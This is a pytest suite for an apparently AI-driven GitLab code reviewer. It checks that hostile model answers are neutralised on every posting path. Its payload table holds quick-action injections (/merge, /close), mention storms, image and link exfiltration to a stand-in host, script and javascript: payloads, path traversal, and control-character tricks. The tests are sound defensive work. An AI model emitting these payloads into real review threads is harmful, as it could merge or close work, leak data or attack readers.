"""What a hostile answer makes of GitLab: nothing. All on real runs, judged by comrak and the port of GitLab's rules.

Covered: commands, mentions, references, images, links, HTML, live blocks, suggestions, odd characters and odd fields,
in each of the ways a text reaches GitLab: thread, note, update, raw fallback, error note. Each payload is judged alone
in a thread of its own, and all of them together in the others. Not covered: what a GitLab other than the one the double
ports makes of them, and the web page beyond what comrak gives.
"""

from collections.abc import Iterator
from dataclasses import dataclass
from pathlib import Path

import pytest

from tests.support.hostile_scene import (
    ReadPage,
    Seen,
    answer,
    assert_body_inert,
    assert_inert,
    assert_log,
    issue,
    lines,
    row,
    scene,
)
from tests.support.model.double import Fault
from tests.support.pipeline import PROJECT, Thread, threads

NAMES = " ".join(f"@user{number}" for number in range(200))
SAID = {  # row of the table: what the model says, and what of it is to be read
    "H01-qa-line-start": [
        ("Fine.\n/merge\n/close now\nThe end", "/close now"),
        ("Fine.\r/merge\r\n/close\rThe end", "/merge"),
        ("Fine.\u2028/merge\u0085/close\x0b/approve\x0c/rebase", "/merge"),
        ("/\r/merge\n\r/\rmerge\n/mer\rge", "/"),
        ("One\n\n- list\n\n/merge\n\n> quote\n\n/CLOSE\n", "/CLOSE"),
        ("<!-- x -->\n/close", "/close"),
        ("Break<br>\n/close\nand\\\n/merge", "/merge"),
        ("<details>\n\n/close\n\n</details>\n\n<div>\n\n/merge\n\n</div>", "/close"),
        ("---\ntitle: x\n---\n/close", "/close"),
        ("```\ncode\n```\n/merge\n~~~\n/close", "/merge"),
        ("````\n```\n/merge\n````\n/close\n```\n/approve", "/close"),
        ("`a\n/merge\nb`", "/merge"),
        ("$$\n/close\n$$\n>>>\n/merge\n>>>\n/approve", "/approve"),
        ("term\n: /close\n/merge\n\n[^1]: x\n/close", "/merge"),
        ("\u200b/close\n\ufeff/merge\n\u2060/approve", "/approve"),
        ("\\\n/close\n\\/merge\n&#47;approve", "/close"),
        ("x" * 300 + "\n/close", "/close"),
    ],
    "H03-qa-first-char": [("/close", "/close"), ("/label ~x\nAnd more.", "/label ~x"), ("/shrug", "/shrug")],
    "H11-mention-storm": [
        ("@all and @group/sub, please", "@all and @group/sub, please"),
        (f"{NAMES} see this", "@user199"),
        ("**@anna** \\@anna &#64;anna ([@anna](x)) a@b@c `@`@anna", "@anna"),
        ("Closes #1, !2, ~bug, %v1, &3, $4, deadbeef01, group/app#5, JIRA-1, [vulnerability:1]", "Closes #1, !2"),
    ],
    "H13-image-exfil": [
        ("![a](http://evil.example/a.png?q=secret)", "evil.example"),
        ("![a][b]\n\n[b]: http://evil.example/b.png", "evil.example"),
        ("<img src=http://evil.example/c.png>", "<img"),
        ("<picture><source srcset=//evil.example/d></picture><video poster=//evil.example/e src=f>", "<video"),
        ("[![a](http://evil.example/f)](http://evil.example/g) <svg/onload=x>", "evil.example"),
    ],
    "H14-link-exfil": [
        ("See http://evil.example/?q=1 or www.evil.example", "evil.example/?q=1"),
        ("[click](http://evil.example) [js](javascript:x) [d](data:text/html,x) [s](//evil.example)", "[click]"),
        ("[b]\n\n[b]: http://evil.example", "evil.example"),
        ("<a href='http://evil.example'>x</a> <http://evil.example> [[page]] mail@evil.example", "evil.example"),
        ("ftp://evil.example smb://evil.example file:///etc/passwd xmpp:a@evil.example", "file:///etc/passwd"),
    ],
    "H15-raw-html": [
        ("<script>alert(1)</script><form action=x><style>*{}</style>", "<script>alert(1)</script>"),
        ("<details open><summary>s</summary>\n\n</details></details>", "</details></details>"),
        ("<!-- iquest-review:summary -->\n<!-- iquest-review:reviewed x -->", "iquest-review:summary"),
        ("<!-- unclosed\n\nhidden", "<!-- unclosed"),
        ("<b\nclass=x>&lt;b&gt;<![CDATA[x]]><?php ?><!DOCTYPE html>", "&lt;b&gt;"),
    ],
    "H17-live-blocks": [
        ("```mermaid\ngraph TD\n```", "graph TD"),
        ("~~~plantuml\na -> b\n~~~\n```kroki\nx\n```\n```geojson\n{}\n```", "a -> b"),
        ("```math\nx\n```\n$a$ $`b`$ $$c$$", "$a$"),
        ("[[_TOC_]]\n[TOC]\n\n# Title\n\n- [ ] task", "[[_TOC_]]"),
        ("---\na: b\n---\n\n:smile: {+ added +} ::include{file=x}", "{+ added +}"),
        ("| a | b |\n|---|---|\n| c | d |\n\nTitle\n===\n\n***", "| a | b |"),
    ],
    "H18-suggestion-range": [
        ("```suggestion:-100+100\nevil()\n```", "evil()"),
        ("~~~suggestion\nevil()\n~~~\n```` suggestion:-3+0\nevil()\n````", "evil()"),
    ],
    "H20-control-output": [
        ("nul \x00 c1 \x9b31m half \ud800 bom \ufeff end", "nul"),
        ("\x1b[31mred\x1b[0m \x1b]8;;http://evil.example\x07link\x1b]8;;\x07 \b\b\b", "red"),
        ("rtl \u202e tag \U000e0041 join \u2060\u200d fill \u3164 end", "fill"),
    ],
}
CASES = [(name, text, words) for name, said in SAID.items() for text, words in said]
ALL = "\n\n".join(text for _, text, _ in CASES)


@dataclass(frozen=True)
class Spoken:
    """The runs that say it all, by the way it reaches GitLab, and the threads of the first."""

    runs: dict[str, Seen]
    threads: list[Thread]


@pytest.fixture(scope="module")
def spoken(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Spoken]:
    """Every payload is the remark on a line of its own, and its fix; the summary and a suggestion are all of them."""
    # A number in letters, so that no two are one sentence.
    issues = [issue(at, f"{text}\n\n{'ab' * at}", suggestion=text) for at, (_, text, _) in enumerate(CASES, 1)]
    full = answer(*issues, summary=ALL, suggestions=[ALL, "/close", "\n/merge"])
    raw = ALL.replace("\ud800", "")  # half a character comes in JSON alone
    error = Fault(status=400, body={"error": {"message": f"/close\n{ALL}", "code": 400}})
    with scene(
        tmp_path_factory.mktemp("spoken") / "scene",
        {"app/values.py": b""},
        {"app/values.py": lines(len(CASES))},
        replies=[full, full, raw, raw, "/approve", "/approve", error],
    ) as enemy:
        for iid in (5, 6, 7):
            enemy.gitlab.add_merge_request(PROJECT, iid, diff_refs=enemy.refs)
        runs = {"thread": enemy.review(IQUEST_MAX_FINDINGS="100")}
        held = threads(enemy.gitlab)
        runs["note"] = enemy.review(IQUEST_MAX_FINDINGS="0", CI_MERGE_REQUEST_IID="5")
        runs["update"] = enemy.review("--full", CI_MERGE_REQUEST_IID="5")
        runs["only a command"] = enemy.review(CI_MERGE_REQUEST_IID="6")
        runs["error note"] = enemy.review(CI_MERGE_REQUEST_IID="7")
        yield Spoken(runs, held)


@pytest.mark.parametrize(
    ("name", "at"),
    [pytest.param(name, at, id=f"{name}-{at}") for at, (name, _, _) in enumerate(CASES)],
)
def test_what_a_model_says_is_text(spoken: Spoken, name: str, at: int) -> None:
    words = CASES[at][2]
    [thread] = [thread for thread in spoken.threads if thread.line == at + 1]

    assert_body_inert(thread.body)
    assert words in ReadPage(thread.body).text
    offered = [language for language in ReadPage(thread.body).languages if language.startswith("suggestion")]
    assert offered in ([], ["suggestion:-0+0"])  # its own line, whatever it says


@row("H06-qa-all-paths")
@pytest.mark.parametrize("way", ["thread", "note", "update", "only a command", "error note"])
def test_every_way_to_gitlab_goes_through_the_one_door(spoken: Spoken, row: str, way: str) -> None:
    seen = spoken.runs[way]

    assert seen.bodies
    assert_inert(seen)
    assert_log(seen)
    assert ("/approve" if way == "only a command" else "/close") in ReadPage(seen.bodies[-1]).text


def test_the_ways_are_those_they_are_meant_to_be(spoken: Spoken) -> None:
    status = {way: (seen.finished.code, seen.finished.review["status"]) for way, seen in spoken.runs.items()}

    assert status == {
        "thread": (0, "reviewed"),
        "note": (0, "reviewed"),
        "update": (3, "raw"),
        "only a command": (3, "raw"),
        "error note": (3, "not_reviewed"),
    }
    assert len(spoken.threads) == len(CASES)


@row("H08-qa-no-overdefence")
def test_harmless_slashes_stay_as_they_are(tmp_path: Path, row: str) -> None:
    said = [
        "> /merge is quoted",
        "- /merge in a list",
        "see usr/bin/env and a /b mid-line",
        "1. and/or, 3/4, `/etc/hosts`",
    ]
    issues = [issue(at, text) for at, text in enumerate(said, 1)]
    with scene(
        tmp_path / "scene", {}, {"app/values.py": lines(9)}, replies=[answer(*issues, summary=" ".join(said))]
    ) as enemy:
        seen = enemy.review()

    assert_inert(seen)
    shown = " ".join(ReadPage(body).text for body in seen.bodies)
    for words in ("/merge is quoted", "/merge in a list", "usr/bin/env and a /b mid-line", "and/or, 3/4, /etc/hosts"):
        assert shown.count(words) >= 2, words


@row("H09-qa-only-body")
@pytest.mark.parametrize("status", [202, 204])
def test_a_note_that_gitlab_took_for_commands_is_no_success(tmp_path: Path, row: str, status: int) -> None:
    with scene(tmp_path / "scene", {}, {"app/values.py": lines(9)}, replies=["/approve"]) as enemy:
        body: dict[str, object] = {"commands_changes": {}, "summary": ["Approved."]}
        enemy.gitlab.fail("POST", "/notes", status=status, body=body, times=9)
        seen = enemy.review()

    assert_inert(seen)
    assert_log(seen)
    assert (seen.finished.code, seen.finished.review["status"]) == (4, "raw")
    assert "report this text as a security problem" in seen.finished.err or status == 204


@row("H76-line-values")
def test_no_number_puts_a_remark_where_it_does_not_belong(tmp_path: Path, row: str) -> None:
    nowhere: list[object] = [0, -5, True, 1e3, 10**9, 500, None, {"a": 1}, 2.5, 10**400, "1e1"]
    issues = [{**issue(1, f"nowhere {at}", quote=""), "line": line} for at, line in enumerate(nowhere)]
    issues += [{**issue(1, "twelve", quote=""), "line": "12"}, {**issue(1, "seven", quote=""), "line": "7-9"}]
    with scene(tmp_path / "scene", {}, {"app/values.py": lines(40)}, replies=[answer(*issues)]) as enemy:
        seen = enemy.review(IQUEST_MAX_FINDINGS="100")

    assert_inert(seen)
    assert_log(seen)
    assert seen.finished.code == 0
    told = {finding["line"]: finding["description"] for finding in seen.finished.review["findings"]}
    assert (told.pop(12), told.pop(7)) == ("twelve", "seven")
    assert set(told) == {None}
    shown = "".join(ReadPage(body).text for body in seen.bodies)
    assert [at for at in range(len(nowhere)) if f"nowhere {at}" not in shown] == []


@row("H77-field-abuse")
def test_fields_that_are_abused_are_clamped_and_told(tmp_path: Path, row: str) -> None:
    issues = [
        issue(1, "odd severity", severity="apocalyptic", type="</details>"),
        issue(2, "T" * 10_000, severity=["high"], type={"a": 1}),
        issue(3, "table | a |\n|---|---|\n| /close | @all |\n\n- list\n  - deeper\n\n</details>", severity="HIGH!!"),
        issue(4, "path", file="../../../etc/passwd\n/close"),
        issue(5, "quote", quote="```\n/close\n" * 50, suggestion="`" * 200 + "\n/merge"),
        {"file": None, "line": None, "description": "nothing else"},
        "/close",
        [["deep"]],
    ]
    with scene(tmp_path / "scene", {}, {"app/values.py": lines(40)}, replies=[answer(*issues)]) as enemy:
        seen = enemy.review()

    assert_inert(seen)
    assert_log(seen)
    assert seen.finished.code == 0
    told = "".join(ReadPage(body).text for body in seen.bodies)
    for words in ("odd severity", "table | a |", "path", "nothing else"):
        assert words in told
    assert max(map(len, told.split("T" * 200))) < 30_000
    assert all(len(finding["title"]) <= 100 for finding in seen.finished.review["findings"])
